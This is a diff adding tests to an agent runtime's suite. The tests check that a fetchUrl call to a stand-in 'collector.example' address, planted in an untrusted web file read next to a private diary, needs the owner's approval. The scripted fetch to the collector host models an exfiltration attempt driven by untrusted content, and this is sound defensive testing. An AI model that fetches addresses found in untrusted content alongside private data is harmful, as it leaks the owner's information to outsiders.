@@ -151,6 +151,39 @@ test('what an agent of a program has read counts for the program and for its tur
   expect(labels.provenance()).toMatchObject({ untrusted: true, private: true });
 });
 
+const SUMMARY = 'let page = readFile("web.md")\nlet doc = readFile("mine.md")\n';
+const ASKS = 'print agent<string>(`Summarise: ${page} and ${doc}`) with tools: fetchUrl';
+
+test.each([
+  ['an address in a text that a program has read is not the owner’s', SUMMARY + ASKS, true],
+  ['an address in the program is the owner’s', `${SUMMARY}// https://collector.example/?d=1\n${ASKS}`, false],
+  [
+    'so is one in the words that it puts together without others’',
+    ASKS.replace('${page}', 'https://collector.example/?d=1').replace('${doc}', 'my words'),
+    false,
+  ],
+])('%s', async (_what, source, asks) => {
+  const url = 'https://collector.example/?d=1';
+  const { app, home, run, write } = await world([
+    { toolCalls: [{ name: 'digest', args: {} }] },
+    { toolCalls: [{ name: 'fetchUrl', args: { url } }] },
+    'A digest.',
+    'Done.',
+  ]);
+  const folder = join(home, 'projects', 'home');
+  mkdirSync(folder, { recursive: true });
+  writeFileSync(join(folder, 'web.md'), `See ${url}`);
+  writeFileSync(join(folder, 'mine.md'), 'My diary.');
+  await app.knowledge.origins.files.declare(join(folder, 'web.md'), { untrusted: true, folder: false });
+  await run(['think', 'trust', write('digest.tl', source)]);
+  const context = testContext();
+  await app.turns.run(testTurn('digest the page'), context);
+  const fetched = context.events.find((event) => event.type === 'tool' && /fetch/u.test(event.name));
+  expect(fetched).toMatchObject({
+    preview: expect.stringMatching(asks ? /needs the owner's approval/u : /^(?!.*approval)/u),
+  });
+});
+
 const BRIEF =
   'param who: string\nparam times: int = 1\nprint `hello ${who} ${times + 1}`\nwriteNote(`greeted ${who}`)\n';
 
